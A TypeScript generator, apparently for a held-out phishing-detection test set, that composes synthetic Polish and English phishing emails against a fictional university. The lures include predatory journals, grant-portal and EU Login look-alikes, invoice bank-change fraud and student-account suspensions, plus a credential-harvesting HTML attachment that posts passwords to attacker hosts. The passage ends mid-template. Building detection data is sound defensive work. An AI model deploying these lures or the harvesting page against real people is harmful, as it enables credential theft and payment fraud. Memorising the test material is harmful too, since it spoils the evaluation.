// The twenty-second unseen set's phishing, in Polish and English: what reaches Uniwersytet Wiślany
// (corp.example) — predatory journals and fake conferences, editorial-system and grant-portal look-alikes,
// student-account and scholarship lures, payroll diversion, the rector from free mail, fake KSeF invoices,
// parcel fees, ePUAP and mObywatel notices, QR codes, device codes, OAuth consent, callbacks, thread
// hijacks and malicious attachments. The Italian and Ukrainian ones are in unseen-22-local.ts.
import type { SeededRandom } from './generate.js';
import { diskImage, legacyMacroDocument, macroWorkbook, oneNote, qrJpeg, qrPng, zipOf } from './payloads.js';
import { LOCAL_PHISHING_22 } from './unseen-22-local.js';
import {
  addDays,
  addr,
  amount,
  anyone,
  ascii,
  chance,
  chars,
  compromisedSite,
  digits,
  eur,
  foreignIban,
  freeHost,
  freemail,
  handle,
  hex,
  hm,
  int,
  intlName,
  isoDay,
  letter,
  longDate,
  type Mail,
  MIME,
  mailDate,
  nrb,
  ORG,
  parts,
  pick,
  plDate,
  plIban,
  plLandline,
  plMobile,
  plName,
  pln,
  quoteText,
  RESEARCH_TOPICS,
  researcher,
  runTemplates,
  STAFF,
  shortLink,
  some,
  someone,
  student,
  type Template,
  token,
  upper,
  usd,
  viaRedirect,
  vocative,
  weighted,
} from './unseen-22-scene.js';
import { invitation, onePagePdf, protectedZip } from './unseen-payloads.js';

const T = (kind: string, name: string, make: (r: SeededRandom) => Mail | Promise<Mail>): Template => ({
  kind,
  name,
  make,
});

/** Domains registered to look like the university's own. */
const ORG_LOOKALIKES = [
  'corp-example.com',
  'corpexample.net',
  'corp-exarnple.com',
  'corp-example-edu.pl',
  'uniwersytet-wislany.com.pl',
  'wislany-uczelnia.pl',
  'corpexample-mail.com',
];

const MONTHS_PL = [
  'styczeń',
  'luty',
  'marzec',
  'kwiecień',
  'maj',
  'czerwiec',
  'lipiec',
  'sierpień',
  'wrzesień',
  'październik',
  'listopad',
  'grudzień',
];

const monthPl = (d: Date): string => MONTHS_PL[Number(isoDay(d).slice(5, 7)) - 1];

const drPrefix = (p: { title: string }): string => (p.title.includes('prof') ? 'Prof.' : 'Dr.');

const SCIENCE_JOURNALS = [
  {
    name: 'International Journal of Advanced Research in Science, Engineering and Technology',
    abbr: 'IJARSET',
    domain: 'ijarset-journal.org',
  },
  {
    name: 'Global Journal of Multidisciplinary Studies and Innovation',
    abbr: 'GJMSI',
    domain: 'gjmsi-publishing.com',
  },
  {
    name: 'American Journal of Applied Physics and Nanotechnology',
    abbr: 'AJAPN',
    domain: 'ajapn-journals.org',
  },
  {
    name: 'European Journal of Environmental and Earth Sciences Research',
    abbr: 'EJEESR',
    domain: 'ejeesr.net',
  },
  {
    name: 'Journal of Humanities, Social Sciences and Historical Studies',
    abbr: 'JHSSHS',
    domain: 'jhsshs-press.com',
  },
];

const predatoryJournal = T('predatory-journal', 'journal-call-for-papers', (r) => {
  const date = mailDate(r);
  const j = pick(r, SCIENCE_JOURNALS);
  const to = researcher(r);
  const ed = intlName(r);
  const topic = pick(r, RESEARCH_TOPICS);
  const impact = `${int(r, 4, 9)}.${digits(r, 3)}`;
  const apc = pick(r, [79, 99, 120, 149, 199]);
  const gmail = chance(r, 0.4);
  const from = gmail ? `${j.abbr.toLowerCase()}.editorial${digits(r, 2)}@gmail.com` : `editor@${j.domain}`;
  const subject = pick(r, [
    `Call for Papers: ${j.abbr} Vol. ${int(r, 6, 19)}, Issue ${int(r, 1, 12)}`,
    `Invitation to submit your valuable research to ${j.abbr}`,
    `${drPrefix(to)} ${to.last}, manuscript invitation - ${j.abbr} (Impact Factor ${impact})`,
    `Special Issue on "${topic}" - submission deadline ${longDate(addDays(date, 14), 'en')}`,
    `Greetings from ${j.abbr} - Fast publication in 7 days`,
  ]);
  const link = `https://www.${j.domain}/${pick(r, ['submit', 'online-submission', 'manuscript/submit.php'])}?ref=${token(r, 8)}`;
  return {
    from: { name: pick(r, [`${j.abbr} Editorial Office`, `Dr. ${ed.full}`, j.name]), address: from },
    to: [addr(to)],
    subject,
    date,
    ...parts(
      r,
      {
        lang: 'en',
        greeting: pick(r, [
          `Dear ${drPrefix(to)} ${to.last},`,
          'Dear Esteemed Author,',
          'Greetings of the day!',
        ]),
        blocks: [
          `It is our pleasure to invite you to submit your research article, review article or short communication for the upcoming issue of ${j.name} (${j.abbr}). We have gone through your recent publication on ${topic} and we strongly believe your expertise will be a valuable addition to our journal.`,
          {
            facts: [
              ['Impact Factor', `${impact} (2025)`],
              ['Indexing', 'Google Scholar, Index Copernicus, Crossref, Scilit, ResearchBib, SJIF'],
              ['Peer review', `${pick(r, ['5-7', '7-10', '3-5'])} days`],
              ['Publication', 'within 48 hours of acceptance, with DOI'],
              [
                'Article processing charge',
                `USD ${apc} (${pick(r, ['50% waiver for Polish authors', 'special discount for invited authors', 'no hidden charges'])})`,
              ],
            ],
          },
          `Please submit your manuscript through our [online submission system](${link}) or simply send it as an attachment in reply to this email. An e-certificate of publication will be issued to each author.`,
          `Last date for submission: **${longDate(addDays(date, int(r, 5, 20)), 'en')}**`,
        ],
        closing: pick(r, ['With warm regards,', 'Best Regards,', 'Thanks & Regards,']),
        signature: [
          `Dr. ${ed.full}`,
          pick(r, ['Editorial Board Member', 'Managing Editor', 'Editor-in-Chief']),
          j.name,
          `ISSN (Online): 2${digits(r, 3)}-${digits(r, 4)}`,
        ],
        footer: [
          'If you do not wish to receive further emails from us, please reply with REMOVE in the subject line.',
        ],
      },
      0.3,
      0.2,
    ),
    via: gmail ? 'gmail' : pick(r, ['vps', 'sendgrid'] as const),
    auth: gmail ? 'freemail' : 'lookalike',
  };
});

const FAKE_CONFERENCES = [
  {
    name: 'International Conference on Advanced Materials Science and Nanotechnology',
    abbr: 'ICAMSN',
    city: 'Barcelona, Spain',
  },
  { name: 'World Congress on Environmental Science and Climate Change', abbr: 'WCESCC', city: 'Rome, Italy' },
  {
    name: 'International Conference on Artificial Intelligence, Data Science and Smart Computing',
    abbr: 'ICAIDSC',
    city: 'Dubai, UAE',
  },
  {
    name: 'Global Summit on History, Culture and Heritage Studies',
    abbr: 'GSHCHS',
    city: 'Prague, Czech Republic',
  },
  { name: 'International Photonics and Optoelectronics Meeting', abbr: 'IPOM', city: 'Vienna, Austria' },
];

const fakeConference = T('fake-conference', 'conference-accepted-register', (r) => {
  const date = mailDate(r);
  const c = pick(r, FAKE_CONFERENCES);
  const to = researcher(r);
  const host = pick(r, [
    `${c.abbr.toLowerCase()}-2026.org`,
    'scientific-summits-global.com',
    `${c.abbr.toLowerCase()}conference.com`,
    'worldresearchforum-events.org',
  ]);
  const when = addDays(date, int(r, 30, 90));
  const early = addDays(date, int(r, 3, 10));
  const fee = pick(r, [390, 450, 490, 550]);
  const mode = r.below(3);
  const subject = [
    `Abstract Accepted for Oral Presentation - ${c.abbr} 2026, ${c.city}`,
    `Invitation: Keynote Speaker at ${c.abbr} 2026`,
    `${c.abbr} 2026 | Session Chair Invitation - ${to.last}`,
  ][mode];
  const opening = [
    `We are pleased to inform you that the Scientific Committee has accepted your abstract for an **oral presentation** at the ${c.name} (${c.abbr} 2026), to be held on ${longDate(when, 'en')} in ${c.city}.`,
    `Based on your distinguished contribution to the field, the Organizing Committee of the ${c.name} (${c.abbr} 2026) cordially invites you to deliver a **Keynote Talk**. The congress takes place on ${longDate(when, 'en')} in ${c.city}.`,
    `On behalf of the Organizing Committee, we invite you to serve as **Session Chair** at the ${c.name} (${c.abbr} 2026), ${c.city}, ${longDate(when, 'en')}. Your name will be listed on the conference website and in the programme.`,
  ][mode];
  const reg = `https://${host}/registration?${pick(r, ['id', 'ref', 'speaker'])}=${token(r, 10)}`;
  return {
    from: {
      name: `${c.abbr} 2026 Organizing Committee`,
      address: pick(r, [`program@${host}`, `info@${host}`, `secretariat@${host}`]),
    },
    replyTo: chance(r, 0.3) ? { address: `${c.abbr.toLowerCase()}.secretariat@outlook.com` } : undefined,
    to: [addr(to)],
    subject,
    date,
    ...parts(r, {
      lang: 'en',
      brand: chance(r, 0.5)
        ? { name: `${c.abbr} 2026`, color: pick(r, ['#0a3d62', '#6a1b9a', '#b71c1c']), sub: c.name }
        : undefined,
      greeting: `Dear ${drPrefix(to)} ${to.first} ${to.last},`,
      blocks: [
        opening,
        `To confirm your slot in the final programme, please complete your registration before **${longDate(early, 'en')}**. Unconfirmed slots will be released to the waiting list.`,
        {
          facts: [
            ['Academic (in person)', `€${fee}`],
            ['Virtual presentation', `€${fee - 200}`],
            ['Includes', 'conference kit, lunch, certificate, publication in the Scopus-indexed proceedings'],
          ],
        },
        { button: 'Complete registration', href: reg },
        `For visa invitation letters or any queries, contact us on WhatsApp ${pick(r, ['+44 7', '+1 (650) 4', '+971 5'])}${digits(r, 2)} ${digits(r, 3)} ${digits(r, 4)}.`,
      ],
      closing: 'Kind regards,',
      signature: [`${intlName(r).full}`, `Programme Manager, ${c.abbr} 2026`],
    }),
    via: pick(r, ['sendgrid', 'vps', 'ses'] as const),
    returnPath: `bounce-${digits(r, 6)}@${pick(r, ['em.', 'mail.', ''])}${host}`,
    auth: 'lookalike',
  };
});

const REAL_CONFERENCES = [
  { name: 'EGU General Assembly 2026', city: 'Vienna', slug: 'egu26' },
  { name: 'ICML 2026', city: 'Seoul', slug: 'icml2026' },
  { name: 'SPIE Photonics Europe 2026', city: 'Strasbourg', slug: 'photonics-europe' },
  {
    name: 'European Materials Research Society Spring Meeting 2026',
    city: 'Strasbourg',
    slug: 'emrs-spring',
  },
  { name: 'ESHE Annual Meeting 2026', city: 'Bologna', slug: 'eshe2026' },
];

const conferenceHousing = T('conference-housing', 'conference-hotel-block', (r) => {
  const date = mailDate(r);
  const c = pick(r, REAL_CONFERENCES);
  const to = chance(r, 0.5) ? researcher(r) : pick(r, [STAFF.grants, STAFF.grants2, STAFF.rectorOffice]);
  const agent = intlName(r);
  const agency = pick(r, [
    'Global Event Housing',
    'Conference Travel Partners',
    'Expo Housing Services',
    'Congress Accommodation Bureau',
  ]);
  const domain = pick(r, [
    `${c.slug}-housing.com`,
    `${c.slug}-hotels.org`,
    'expo-housing-services.com',
    'congress-accommodation.net',
  ]);
  const free = chance(r, 0.35);
  const rate = int(r, 129, 189);
  return {
    from: {
      name: `${agent.full} | ${agency}`,
      address: free ? freemail(r, agent, ['outlook.com', 'gmail.com']) : `${handle(agent)}@${domain}`,
    },
    to: [addr(to)],
    subject: pick(r, [
      `${c.name} - Official Hotel Block - Limited Availability`,
      `Accommodation for ${c.name} in ${c.city}`,
      `Re: ${c.name} hotel reservation`,
      `Hotel rooms near the venue - ${c.name}`,
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'en',
        greeting: `Hello ${to.first},`,
        blocks: [
          `I'm reaching out on behalf of the housing team for the ${c.name} in ${c.city}. As exhibitors and attendees are already booking, hotels near the venue are close to being sold out.`,
          `We hold a block of rooms at negotiated rates of €${rate}–€${rate + 60} per night, including breakfast and free cancellation up to 14 days before arrival. These rates are not available on public booking sites.`,
          'Kindly let us know the following so we can secure rooms for you and your team:',
          {
            list: [
              'Number of rooms needed',
              'Check-in and check-out dates',
              'Names of the guests',
              'Any special requirements',
            ],
          },
          `Payment can be made by card or bank transfer once we send the confirmation. Please reply at your earliest convenience, as availability changes daily.`,
        ],
        closing: 'Best regards,',
        signature: [
          agent.full,
          `Reservations Manager | ${agency}`,
          `Tel: +1 (${int(r, 201, 989)}) ${digits(r, 3)}-${digits(r, 4)}`,
        ],
      },
      0.2,
      0.4,
    ),
    via: free ? pick(r, ['outlook', 'gmail'] as const) : pick(r, ['vps', 'direct'] as const),
    auth: free ? 'freemail' : 'lookalike',
  };
});

const EM_JOURNALS = [
  { name: 'Journal of Materials Chemistry A', code: 'JMCA' },
  { name: 'Science of the Total Environment', code: 'STOTEN' },
  { name: 'Applied Surface Science', code: 'APSUSC' },
  { name: 'Journal of Hydrology', code: 'HYDROL' },
  { name: 'Optics and Laser Technology', code: 'JOLT' },
  { name: 'Computers & Education', code: 'CAE' },
];

const editorialLogin = T('editorial-system-login', 'editorial-manager-reviewer', (r) => {
  const date = mailDate(r);
  const j = pick(r, EM_JOURNALS);
  const to = researcher(r);
  const ms = `${j.code}-D-26-${digits(r, 5)}`;
  const host = pick(r, [
    'www.editorialmanager.com-reviewers.net',
    'editorial-manager-review.org',
    'em-reviewer-portal.com',
    'www.editorialmanagerjournals.com',
  ]);
  const path = `https://${host}/${j.code.toLowerCase()}/l.asp?i=${digits(r, 6)}&l=${upper(r, 8)}`;
  const title = pick(r, RESEARCH_TOPICS);
  const editor = intlName(r);
  return {
    from: {
      name: `${j.name} <em@editorialmanager.com>`,
      address: pick(r, [
        `em@${host.replace(/^www\./, '')}`,
        `em.${j.code.toLowerCase()}.0.${hex(r, 6)}.${hex(r, 8)}@${host.replace(/^www\./, '')}`,
      ]),
    },
    to: [addr(to)],
    subject: pick(r, [
      `Invitation to review manuscript ${ms}`,
      `${j.code}: Reviewer invitation for "${title.slice(0, 40)}..."`,
      `Reminder: invitation to review ${ms} awaiting your response`,
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'en',
        greeting: `Dear ${drPrefix(to)} ${to.last},`,
        blocks: [
          `The manuscript referenced below has been submitted to ${j.name}, and I would be most grateful if you would agree to act as a reviewer.`,
          {
            facts: [
              ['Manuscript Number', ms],
              ['Title', `Advances in ${title}`],
              ['Article Type', 'Research Paper'],
            ],
          },
          `If you are willing to review this manuscript, please click on the link below:\n[Agree to Review](${path}&a=r)`,
          `If you do not wish to review, please click here:\n[Decline to Review](${path}&a=d)`,
          `Your username is: ${to.email}\nIf you need to retrieve password details, please go to: [${path.split('/l.asp')[0]}/l.asp?i=${digits(r, 6)}&l=${upper(r, 8)}](${path}&pw=1)`,
          'Please sign in with your institutional email and password to view the full manuscript and the review form.',
        ],
        closing: 'With kind regards,',
        signature: [editor.full, 'Associate Editor', j.name],
        footer: [
          'This letter contains confidential information, is for your own use, and should not be forwarded to third parties.',
          'In compliance with data protection regulations, you may request that we remove your personal registration details at any time.',
        ],
      },
      0.1,
      0.5,
    ),
    via: pick(r, ['vps', 'sendgrid'] as const),
    auth: 'lookalike',
  };
});

const MDPI_JOURNALS = [
  'Materials',
  'Sustainability',
  'Sensors',
  'Water',
  'Applied Sciences',
  'Nanomaterials',
  'Heritage',
];

const apcInvoiceFraud = T('apc-invoice-fraud', 'mdpi-apc-new-account', (r) => {
  const date = mailDate(r);
  const journal = pick(r, MDPI_JOURNALS);
  const ms = `${journal.toLowerCase().replace(/ /g, '')}-3${digits(r, 6)}`;
  const to = chance(r, 0.6) ? researcher(r) : STAFF.accounts;
  const domain = pick(r, [
    'mdpi-billing.com',
    'mdpi-publishing.org',
    'mdpi.com.billing-office.net',
    'mdpi-apc.com',
  ]);
  const fee = pick(r, [2400, 2600, 2700, 2900]);
  const inv = `${journal.slice(0, 3).toUpperCase()}${digits(r, 6)}`;
  const acct = foreignIban(r);
  const clerk = intlName(r);
  const pdf = onePagePdf([
    'MDPI AG - St. Alban-Anlage 66, 4052 Basel, Switzerland',
    `INVOICE No. ${inv}`,
    `Date: ${plDate(date)}`,
    `Bill to: ${to.name}, ${ORG.nameEn}, ${ORG.address}`,
    `Manuscript: ${ms} (${journal})`,
    `Article Processing Charge: CHF ${fee}.00`,
    'Payment within 14 days. Please quote the invoice number.',
    `Beneficiary account (updated): ${acct}`,
    `SWIFT: ${upper(r, 4)}${pick(r, ['LT2X', 'BEBB', 'IE2D', 'DEFF'])}`,
  ]);
  return {
    from: {
      name: pick(r, ['MDPI Billing Office', 'MDPI Accounts Receivable', `${journal} Editorial Office`]),
      address: `billing@${domain}`,
    },
    replyTo: chance(r, 0.4)
      ? { name: 'MDPI Billing', address: `mdpi.billing${digits(r, 2)}@outlook.com` }
      : undefined,
    to: [addr(to)],
    subject: pick(r, [
      `[${journal}] Invoice ${inv} for manuscript ${ms} - updated bank details`,
      `APC payment reminder: ${ms}`,
      `Invoice ${inv} - ${journal} - change of bank account`,
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'en',
        greeting: `Dear ${to.title.includes('dr') || to.title.includes('prof') ? `${drPrefix(to)} ` : ''}${to.last},`,
        blocks: [
          `Please find attached the invoice for the Article Processing Charge (APC) of manuscript ${ms}, accepted for publication in ${journal}.`,
          `Kindly note that due to a change of our banking partner, payments must now be made to the account stated on the attached invoice. Payments made to our previous account will be returned and may delay the publication of your article.`,
          {
            facts: [
              ['Invoice', inv],
              ['Amount', `CHF ${fee}.00`],
              ['New IBAN', acct],
            ],
          },
          'Please send us the transfer confirmation once the payment is made.',
        ],
        closing: 'Kind regards,',
        signature: [clerk.full, 'Billing Office', 'MDPI, Basel, Switzerland'],
      },
      0.2,
      0.3,
    ),
    attachments: [{ filename: `Invoice_${inv}.pdf`, type: MIME.pdf, content: pdf }],
    via: pick(r, ['vps', 'direct'] as const),
    auth: 'lookalike',
  };
});

const htmlLoginAttachment = T('html-login-attachment', 'springer-proofs-html', (r) => {
  const date = mailDate(r);
  const to = researcher(r);
  const id = `${int(r, 10, 13)}${digits(r, 3)}_2026_${digits(r, 4)}`;
  const collector = pick(r, [
    `https://proofs-springernature.${pick(r, ['top', 'online', 'site'])}/auth/verify.php`,
    compromisedSite(r, 'proof'),
    `https://${chars(r, 10)}.${pick(r, ['r2.dev', 'workers.dev'])}/submit`,
  ]);
  const page = [
    '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Springer Nature | Sign in to view proofs</title>',
    '<style>body{font-family:Arial;background:#f5f5f5}.box{width:360px;margin:80px auto;background:#fff;padding:30px;border-top:4px solid #e6005c}input{width:100%;padding:8px;margin:6px 0}</style></head>',
    '<body><div class="box"><h2>Springer Nature</h2><p>Your article proofs are protected. Sign in with your institutional account to continue.</p>',
    `<form method="POST" action="${collector}"><input type="email" name="login" value="${to.email}"><input type="password" name="pass" placeholder="Password">`,
    `<input type="hidden" name="doc" value="${id}"><button type="submit">View proofs</button></form></div></body></html>`,
  ].join('\n');
  const spoof = chance(r, 0.4);
  return {
    from: {
      name: 'Springer Nature Production',
      address: spoof
        ? 'corrections@springernature.com'
        : `corrections@${pick(r, ['springernature-proofs.com', 'springer-eproofing.net', 'springernature.org.uk'])}`,
    },
    returnPath: spoof ? `${chars(r, 8)}@${pick(r, ['mail-relay.biz', 'smtp-node.xyz'])}` : undefined,
    to: [addr(to)],
    subject: pick(r, [
      `Proofs of your article ${id} are ready for correction`,
      `Springer Nature: please review your proofs (ID ${id})`,
      `Action required: proof corrections due within 48 hours`,
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'en',
        greeting: `Dear Author,`,
        blocks: [
          `The proofs of your article (${id}) are now available. For security reasons they are delivered as a secured document attached to this message.`,
          'Please open the attachment and sign in with your institutional email to access the proofs. Corrections must be submitted within 48 hours; after that the article will be published as is.',
        ],
        closing: 'Yours sincerely,',
        signature: ['Springer Nature Corrections Team'],
      },
      0.3,
      0.3,
    ),
    attachments: [{ filename: `Proofs_${id}.html`, type: MIME.html, content: page }],
    via: 'vps',
    auth: spoof ? 'spoof' : 'lookalike',
  };
});

const orcidCredential = T('orcid-credential', 'orcid-verify-deactivation', (r) => {
  const date = mailDate(r);
  const to = researcher(r);
  const orcid = `0000-000${int(r, 1, 3)}-${digits(r, 4)}-${digits(r, 3)}${pick(r, ['X', digits(r, 1)])}`;
  const link = pick(r, [
    `https://orcid.org.account-verify.${pick(r, ['info', 'net', 'com'])}/signin?oid=${orcid}`,
    `https://orcid-support.org/verify/${orcid}`,
    freeHost(r, 'orcid-verify'),
  ]);
  return {
    from: {
      name: 'ORCID',
      address: pick(r, [
        'no-reply@orcid-notify.org',
        'support@orcid-support.org',
        'DoNotReply@orcid-verify.com',
      ]),
    },
    to: [addr(to)],
    subject: pick(r, [
      '[ORCID] Action required: verify your ORCID record',
      '[ORCID] Your ORCID iD will be deactivated',
      'ORCID: unusual activity on your record',
    ]),
    date,
    ...parts(r, {
      lang: 'en',
      brand: { name: 'ORCID', color: '#a6ce39', sub: 'Connecting research and researchers' },
      greeting: `Dear ${to.first} ${to.last},`,
      blocks: [
        `As part of our annual record integrity review, we were unable to confirm the primary email address associated with your ORCID iD **${orcid}**.`,
        `To keep your record, works and affiliations active, please verify your account by ${longDate(addDays(date, 3), 'en')}. Unverified records will be deactivated and removed from search results.`,
        { button: 'Verify my ORCID record', href: link },
        'You will be asked to sign in with your ORCID credentials or your institutional account.',
      ],
      closing: 'Warm regards,',
      signature: ['ORCID Support'],
      footer: ['ORCID, Inc. | 10411 Motor City Drive, Suite 750, Bethesda, MD 20817, USA'],
    }),
    via: pick(r, ['vps', 'sendgrid', 'ses'] as const),
    auth: 'lookalike',
  };
});

const grantPortal = T('grant-portal-lookalike', 'ncn-ncbr-portal', (r) => {
  const date = mailDate(r);
  const to = chance(r, 0.5) ? researcher(r) : pick(r, [STAFF.grants, STAFF.grants2]);
  const ncn = chance(r, 0.6);
  const deadline = addDays(date, pick(r, [3, 5, 7]));
  if (ncn) {
    const call = pick(r, ['OPUS 30', 'SONATA 21', 'PRELUDIUM 25', 'SONATA BIS 15', 'MINIATURA 9']);
    const reg = `2026/${int(r, 60, 63)}/${pick(r, ['B', 'D', 'E', 'N'])}/${pick(r, ['ST5', 'NZ8', 'HS3', 'ST6', 'ST7'])}/${digits(r, 5)}`;
    const host = pick(r, ['osf-ncn.pl', 'osf.opi-org.pl', 'ncn-osf.com.pl', 'osf-logowanie.pl']);
    const link = `https://${host}/OSF/${pick(r, ['logowanie', 'login.do', 'wniosek'])}?nr=${encodeURIComponent(reg)}&t=${token(r, 12)}`;
    return {
      from: { name: 'Narodowe Centrum Nauki - system OSF', address: `powiadomienia@${host}` },
      to: [addr(to)],
      subject: pick(r, [
        `Wniosek nr ${reg} - wezwanie do uzupełnienia braków formalnych`,
        `OSF: zmiana statusu wniosku (${call})`,
        `Wyniki konkursu ${call} - wymagane potwierdzenie w systemie OSF`,
      ]),
      date,
      ...parts(r, {
        lang: 'pl',
        greeting: 'Szanowni Państwo,',
        blocks: [
          `uprzejmie informujemy, że wniosek nr ${reg} złożony w konkursie ${call} wymaga uzupełnienia braków formalnych (${pick(r, ['brak podpisu elektronicznego kierownika podmiotu', 'niezgodność kosztorysu z opisem zadań', 'brak oświadczenia o zgodzie na realizację badań'])}).`,
          `Uzupełnienia należy dokonać w terminie do **${plDate(deadline)}**, logując się do systemu OSF. Nieuzupełnienie braków w wyznaczonym terminie spowoduje pozostawienie wniosku bez rozpatrzenia.`,
          { button: 'Zaloguj się do systemu OSF', href: link },
          'Wiadomość została wygenerowana automatycznie, prosimy na nią nie odpowiadać.',
        ],
        closing: 'Z poważaniem,',
        signature: [
          'Zespół Koordynatorów Dyscyplin',
          'Narodowe Centrum Nauki',
          'ul. Twardowskiego 16, 30-312 Kraków',
        ],
      }),
      via: pick(r, ['vps', 'direct'] as const),
      auth: 'lookalike',
    };
  }
  const programme = pick(r, [
    'Ścieżka SMART',
    'FENG 01.01 - Badania w przedsiębiorstwach',
    'LIDER XVI',
    'TANGO 7',
  ]);
  const host = pick(r, ['lsi-ncbr.com.pl', 'ncbr-lsi.pl', 'lsi.ncbr-gov.pl']);
  return {
    from: { name: 'Narodowe Centrum Badań i Rozwoju', address: `lsi@${host}` },
    to: [addr(to)],
    subject: pick(r, [
      `Lista rankingowa - ${programme}: potwierdzenie danych beneficjenta`,
      `NCBR: decyzja o dofinansowaniu projektu - wymagana weryfikacja konta LSI`,
    ]),
    date,
    ...parts(r, {
      lang: 'pl',
      greeting: 'Szanowni Państwo,',
      blocks: [
        `w związku z publikacją listy rankingowej w konkursie ${programme} prosimy o potwierdzenie danych beneficjenta oraz rachunku bankowego projektu w Lokalnym Systemie Informatycznym (LSI).`,
        `Brak potwierdzenia do dnia ${plDate(deadline)} skutkuje wstrzymaniem procedury zawarcia umowy o dofinansowanie.`,
        { button: 'Przejdź do LSI', href: `https://${host}/login?ref=${token(r, 10)}` },
      ],
      closing: 'Z poważaniem,',
      signature: ['Dział Obsługi Wnioskodawców', 'Narodowe Centrum Badań i Rozwoju'],
    }),
    via: 'vps',
    auth: 'lookalike',
  };
});

const ACRONYMS = ['RIVERSENSE', 'PHOTOQ', 'HERITRADE', 'GNN4MOL', 'CLIMAHEAT', 'PEROTAND', 'FEDHEALTH'];

const euLogin = T('eu-login-phish', 'funding-tenders-esr', (r) => {
  const date = mailDate(r);
  const to = chance(r, 0.5) ? researcher(r) : STAFF.grants2;
  const prop = `101${digits(r, 6)}`;
  const acr = pick(r, ACRONYMS);
  const call = pick(r, [
    'HORIZON-CL5-2026-D3-01',
    'HORIZON-MSCA-2025-PF-01',
    'HORIZON-CL6-2026-BIODIV-01',
    'ERC-2026-STG',
    'HORIZON-CL2-2026-HERITAGE-02',
  ]);
  const spoof = chance(r, 0.35);
  const host = pick(r, [
    'webgate.ec-europa.eu-login.com',
    'ecas.europa-eu.info',
    'ec-europa-portal.eu',
    'webgate-ec-europa.com',
  ]);
  const link = `https://${host}/cas/login?service=https%3A%2F%2Fec.europa.eu%2Finfo%2Ffunding-tenders%2Fopportunities%2Fportal&prop=${prop}`;
  const grantPrep = chance(r, 0.4);
  return {
    from: {
      name: 'EC Funding & Tenders Portal',
      address: spoof
        ? 'EC-FUNDING-TENDERS-NOREPLY@ec.europa.eu'
        : `ec-funding-tenders-noreply@${host.split('.').slice(-2).join('.')}`,
    },
    returnPath: spoof ? `noreply@${pick(r, ['mx-euportal.top', 'bulkmail-eu.xyz'])}` : undefined,
    to: [addr(to)],
    subject: grantPrep
      ? `Grant Agreement Preparation - ${prop} - ${acr}: action required`
      : `Evaluation result for proposal ${prop} - ${acr} (${call})`,
    date,
    ...parts(r, {
      lang: 'en',
      greeting: 'Dear Applicant,',
      blocks: [
        grantPrep
          ? `Your proposal ${prop} - ${acr} has been selected for funding. To start Grant Agreement Preparation, the LEAR of your organisation must validate the bank account and the legal entity data in the Participant Register within **5 working days**.`
          : `The evaluation of your proposal ${prop} - ${acr}, submitted to the call ${call}, has been completed. The Evaluation Summary Report (ESR) and the evaluation result letter are now available in the Funding & Tenders Portal.`,
        'Please log in with your EU Login account to access your proposal.',
        { button: 'Log in with EU Login', href: link },
        'This is an automatically generated message. Please do not reply.',
      ],
      signature: ['European Commission', 'Funding & Tenders Portal'],
    }),
    via: 'vps',
    auth: spoof ? 'spoof' : 'lookalike',
  };
});

/** Polish verbs and forms of address follow the person: a first name ending in -a is a woman's. */
const fem = (first: string): boolean => /a$/.test(first) && first !== 'Kuba';
const panPani = (first: string): string => (fem(first) ? 'Pani' : 'Pan');

const studentSuspension = T('student-account-suspension', 'usos-account-suspension', (r) => {
  const date = mailDate(r);
  const s = student(r);
  const compromised = chance(r, 0.4);
  const sender = student(r);
  const look = pick(r, ORG_LOOKALIKES);
  const link = pick(r, [
    compromisedSite(r, 'usos'),
    freeHost(r, 'usosweb-logowanie'),
    `https://usosweb.${look}/kontroler.php?_action=logowaniecas/index&ticket=${token(r, 16)}`,
    shortLink(r),
  ]);
  const deadline = addDays(date, pick(r, [1, 2, 3]));
  return {
    from: compromised
      ? {
          name: pick(r, ['Centrum Informatyczne UW', 'USOS Uniwersytet Wiślany', sender.name]),
          address: sender.email,
        }
      : {
          name: 'USOSweb - Uniwersytet Wiślany',
          address: pick(r, [`no-reply@${look}`, `usos@${look}`, `helpdesk@${look}`]),
        },
    to: [{ name: s.name, address: s.email }],
    toHeader: chance(r, 0.4) ? 'undisclosed-recipients:;' : undefined,
    subject: pick(r, [
      'Twoje konto studenckie zostanie zawieszone',
      'Ostatnie przypomnienie: weryfikacja konta USOSweb',
      'Blokada konta Microsoft 365 dla studentów - wymagane działanie',
      'Niezweryfikowane konto - utrata dostępu do USOS i poczty',
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        greeting: pick(r, [
          'Drogi Studencie / Droga Studentko,',
          'Szanowni Studenci,',
          `Dzień dobry ${s.first},`,
        ]),
        blocks: [
          `W ramach semestralnej weryfikacji kont studenckich Centrum Informatyczne wykryło, że Twoje konto (${s.email}) nie zostało potwierdzone w bieżącym semestrze.`,
          `Konta niezweryfikowane do **${plDate(deadline)}** zostaną zawieszone, co oznacza utratę dostępu do USOSweb, poczty studenckiej, MS Teams oraz platformy e-learningowej.`,
          { button: 'Zweryfikuj konto', href: link },
          pick(r, [
            'Weryfikacja zajmuje mniej niż minutę. Zaloguj się tym samym loginem i hasłem co do USOSweb.',
            'Prosimy nie ignorować tej wiadomości - odblokowanie konta wymaga osobistej wizyty w dziekanacie.',
          ]),
        ],
        closing: 'Pozdrawiamy,',
        signature: ['Zespół USOS', 'Centrum Informatyczne Uniwersytetu Wiślanego'],
      },
      0.3,
      0.3,
    ),
    via: compromised ? 'm365' : 'vps',
    auth: compromised ? 'pass' : 'lookalike',
  };
});

const scholarshipScam = T('scholarship-scam', 'rector-scholarship-bank-verify', (r) => {
  const date = mailDate(r);
  const s = student(r, 'pl');
  const look = pick(r, ORG_LOOKALIKES);
  const gmail = chance(r, 0.35);
  const sum = pln(pick(r, [800, 1000, 1200, 1450, 1500]));
  const link = pick(r, [
    `https://wyplata-stypendium.${pick(r, ['pl', 'com.pl', 'online'])}/potwierdz/${token(r, 10)}`,
    `https://stypendia.${look}/rachunek?id=${s.index}`,
    freeHost(r, 'stypendium-rektora'),
  ]);
  const decision = `DSS.4321.${int(r, 100, 2999)}.2025`;
  return {
    from: gmail
      ? {
          name: 'Dział Spraw Studenckich UW',
          address: pick(r, ['dzial.stypendiow.wislany@gmail.com', 'stypendia.uwislany@gmail.com']),
        }
      : { name: 'Komisja Stypendialna - Uniwersytet Wiślany', address: `stypendia@${look}` },
    to: [{ name: s.name, address: s.email }],
    subject: pick(r, [
      'Przyznanie stypendium rektora - potwierdź rachunek do wypłaty',
